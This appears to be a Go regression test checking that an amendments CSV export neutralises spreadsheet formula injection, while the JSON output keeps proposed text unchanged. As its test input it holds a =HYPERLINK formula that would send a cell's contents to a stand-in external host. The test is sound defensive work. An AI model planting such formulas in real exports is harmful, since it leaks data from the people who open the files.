package httpapi_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

// TestAmendmentsCSVHoldsNoFormulas: a member's proposed wording
// "=HYPERLINK(…)" went into the table of amendments' .csv as it was, and a
// spreadsheet program opening it ran it as a formula (also an item
// "- обеспечить…", shown as #NAME?). Such a cell starts with an apostrophe;
// the JSON table keeps the text as written.
func TestAmendmentsCSVHoldsNoFormulas(t *testing.T) {
	a := workflowAPI(t, "sqlite+disk")
	member := a.as("member")
	formula := `=HYPERLINK("http://example.invalid/?"&A1,"Подробнее")`
	member.mustStatus(member.do("POST", "/api/v1/documents/doc/proposals", map[string]any{"base": 1, "title": "Формула",
		"changes": []map[string]any{{"op": "insert_after", "item": "2", "text": formula}}}), 201)
	member.mustStatus(member.do("POST", "/api/v1/documents/doc/proposals", map[string]any{"base": 1, "title": "Список",
		"changes": []map[string]any{{"op": "insert_after", "item": "4", "text": "- обеспечить участие;\n+ и ещё @всех"}}}), 201)
	c := member.mustStatus(member.do("GET", "/api/v1/documents/doc/amendments.csv", nil), 200)
	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(c.Body, []byte("\ufeff")))).ReadAll()
	if err != nil || len(recs) != 3 {
		t.Fatalf("csv: %v %q", err, recs)
	}
	seen := 0
	for _, rec := range recs[1:] {
		for _, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("a cell a spreadsheet reads as a formula: %q", cell)
			}
			if strings.HasPrefix(cell, "'=HYPERLINK") || strings.HasPrefix(cell, "'- обеспечить") {
				seen++
			}
		}
	}
	if seen != 2 {
		t.Errorf("the proposed wordings are not in the table as text: %q", recs)
	}
	j := member.mustStatus(member.do("GET", "/api/v1/documents/doc/amendments", nil), 200)
	if !strings.Contains(string(j.Body), `"proposed":"=HYPERLINK`) {
		t.Errorf("the JSON table changed the text: %s", j.Body)
	}
}
